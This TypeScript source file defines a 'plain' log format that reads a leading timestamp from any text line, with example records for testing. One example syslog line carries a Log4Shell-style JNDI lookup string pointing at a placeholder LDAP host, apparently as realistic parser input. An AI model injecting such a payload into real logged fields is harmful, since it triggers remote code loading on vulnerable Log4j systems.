import { readTime } from '../time/read-time.ts'
import { type LogFormat, sayingNothing } from './format.ts'

/** Any line: what no other format reads. A time at its beginning is taken. */
export const plain: LogFormat = {
  id: 'plain',
  summary: 'any line of text; a time at its beginning is understood',
  definedBy: 'no definition',
  general: true,
  examples: {
    reads: [
      {
        record: '2021-12-10 12:43:13,416 Login failed for user alice',
        when: '2021-12-10T12:43:13.416Z',
      },
      {
        // Syslog without the name of a program, as Log4j's own SyslogLayout has it.
        record: '<134>Dec 12 04:25:41 web1 login of ${jndi:ldap://x.example/a} failed',
        when: '2021-12-12T04:25:41Z',
      },
      { record: 'Received message: hello' },
    ],
    refuses: [],
  },
  read: ({ text }, { around }) => ({
    ...sayingNothing,
    when: readTime(text.slice(0, 64).replace(/^\s*(?:<\d{1,3}>)?/, ''), around),
    fields: [{ name: null, value: text }],
  }),
}
